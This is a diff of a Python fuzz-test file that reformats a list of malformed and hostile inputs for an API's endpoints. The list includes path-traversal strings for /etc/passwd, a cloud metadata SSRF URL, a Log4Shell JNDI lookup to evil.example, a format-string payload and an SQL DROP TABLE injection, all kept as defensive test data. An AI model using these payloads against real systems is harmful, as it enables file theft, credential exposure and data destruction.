@@ -38,10 +38,13 @@ GOOD: dict[str, Any] = {
     "/validate": {"config": "<View/>"},
 }
 NASTY: list[Any] = [
-    None, True, False, 0, -1, 1, 10**30, -(10**30), 1e308, 0.1, "", " ", "x", "\x00", "🦑" * 50, "../../etc/passwd",
+    None, True, False, 0, -1, 1, 10**30, -(10**30), 1e308, 0.1, "", " ", "x", "\x00", "🦑" * 50,
+    "../../etc/passwd",
     "file:///etc/passwd", "http://169.254.169.254/", "//evil.example/", "/data/upload/../../etc/passwd",
-    "/data/local-files/?d=/etc/passwd", "/data/local-files/?d=../../../etc/passwd", "<View>", "<!DOCTYPE a>", [], {},
-    [[]], [None], {"result": None}, {"result": [{}]}, [[[[[]]]]], "9" * 5000, "NaN", "data:image/png;base64,AAAA",
+    "/data/local-files/?d=/etc/passwd", "/data/local-files/?d=../../../etc/passwd", "<View>",
+    "<!DOCTYPE a>", [], {},
+    [[]], [None], {"result": None}, {"result": [{}]}, [[[[[]]]]], "9" * 5000, "NaN",
+    "data:image/png;base64,AAAA",
     "s3://bucket/key", "${jndi:ldap://evil.example/a}", "%s%s%n", "'; DROP TABLE tasks; --",
 ]  # fmt: skip
 
@@ -174,7 +177,7 @@ HAND_MADE = [
     json.dumps({"tasks": [{}] * 20_000}).encode(),
     json.dumps({"tasks": []}).encode(),
     b"<xml/>",
-    '{"tasks": [{"data": {"image": "\\ud800"}}]}'.encode(),
+    b'{"tasks": [{"data": {"image": "\\ud800"}}]}',
 ]
 
 
